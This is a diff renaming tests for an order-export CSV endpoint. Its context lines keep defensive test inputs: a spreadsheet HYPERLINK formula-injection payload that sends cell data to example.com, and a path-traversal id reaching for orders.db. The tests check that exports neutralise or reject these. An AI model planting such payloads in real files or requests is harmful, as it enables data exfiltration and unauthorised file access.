@@ -45,7 +45,7 @@ async def test_payments_and_refunds_are_added_up(desk: Desk) -> None:
     assert rows[LARGE]["cancel_reason"] == "ordered by mistake"
 
 
-async def test_only_the_wanted_statuses_are_exported(desk: Desk) -> None:
+async def test_only_the_requested_statuses_are_exported(desk: Desk) -> None:
     rows = await export(desk, statuses=["pending", "cancelled"])
     assert [row["order_id"] for row in rows] == [PENDING, PAID_BY_GIFT, CANCELLED, OMARS, LARGE]
     assert await export(desk, statuses=["return requested"]) == []
@@ -55,7 +55,7 @@ async def test_only_the_wanted_statuses_are_exported(desk: Desk) -> None:
 FORMULAS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]  # noqa: RUF001 (spreadsheets know wide ones)
 
 
-async def test_no_text_of_a_customer_runs_as_a_formula(desk: Desk) -> None:
+async def test_customer_text_never_becomes_a_formula(desk: Desk) -> None:
     for start in FORMULAS:
         street = f'{start}HYPERLINK("http://example.com?"&A1,"a, b")'
         address = {
@@ -72,7 +72,7 @@ async def test_no_text_of_a_customer_runs_as_a_formula(desk: Desk) -> None:
         assert (row["city"], row["state"], row["country"], row["zip"]) == ("Ålesund", "'=1", "'+1", "'-1")
 
 
-async def test_the_file_is_what_rfc_4180_wants(desk: Desk) -> None:
+async def test_the_file_conforms_to_rfc_4180(desk: Desk) -> None:
     made = await desk.do("export_orders")
     file = await desk.client.get(made["download"])
     assert file.headers["content-type"] == "text/csv; charset=utf-8"
@@ -80,7 +80,7 @@ async def test_the_file_is_what_rfc_4180_wants(desk: Desk) -> None:
     assert file.content.count(b"\r\n") == file.content.count(b"\n") == 9
 
 
-async def test_the_answer_says_where_the_file_is_and_until_when(desk: Desk) -> None:
+async def test_the_response_has_the_url_and_the_expiry_of_the_file(desk: Desk) -> None:
     answer = await desk.call("export_orders")
     assert answer.status_code == 201
     assert answer.headers["location"] == answer.json()["download"]
@@ -88,7 +88,7 @@ async def test_the_answer_says_where_the_file_is_and_until_when(desk: Desk) -> N
     assert (part.status_code, part.content) == (206, b"order_id")
 
 
-async def test_only_who_asked_for_an_export_can_have_it(desk: Desk) -> None:
+async def test_only_the_caller_who_requested_an_export_can_read_it(desk: Desk) -> None:
     mine, other = {"Authorization": "Bearer mine"}, {"Authorization": "Bearer other"}
     made = (await desk.client.post("/retail/exports", json={}, headers=mine)).json()
     assert (await desk.client.get(made["download"], headers=mine)).is_success
@@ -98,7 +98,7 @@ async def test_only_who_asked_for_an_export_can_have_it(desk: Desk) -> None:
         assert "export_orders" in refused.json()["detail"]
 
 
-async def test_an_id_that_was_never_given_leads_nowhere(desk: Desk) -> None:
+async def test_an_id_that_was_never_issued_is_not_found(desk: Desk) -> None:
     for export_id in ("x", "..%2F..%2Forders.db", "%00"):
         assert (await desk.client.get(f"/retail/exports/{export_id}")).status_code in {404, 422}
 
@@ -118,7 +118,7 @@ async def test_an_export_expires_and_is_removed_by_the_next_one(store_url: str, 
         assert not file.exists()
 
 
-async def test_a_full_folder_refuses_more(store_url: str, tmp_path: Path) -> None:
+async def test_an_export_to_a_full_folder_is_rejected(store_url: str, tmp_path: Path) -> None:
     for number in range(100):
         (tmp_path / f"{number}.csv").touch()
     async with open_desk(store_url, export_folder=tmp_path) as desk:
@@ -126,7 +126,7 @@ async def test_a_full_folder_refuses_more(store_url: str, tmp_path: Path) -> Non
 
 
 async def test_many_orders_are_one_snapshot(place: Place) -> None:
-    """Orders that change while the file is written stand in it as they were."""
+    """Orders that change while the file is written appear in it unchanged."""
     shop = small_shop()
     first = shop["orders"][PENDING]
     shop["orders"] = {f"#W{n:07}": {**first, "order_id": f"#W{n:07}"} for n in range(2500)}
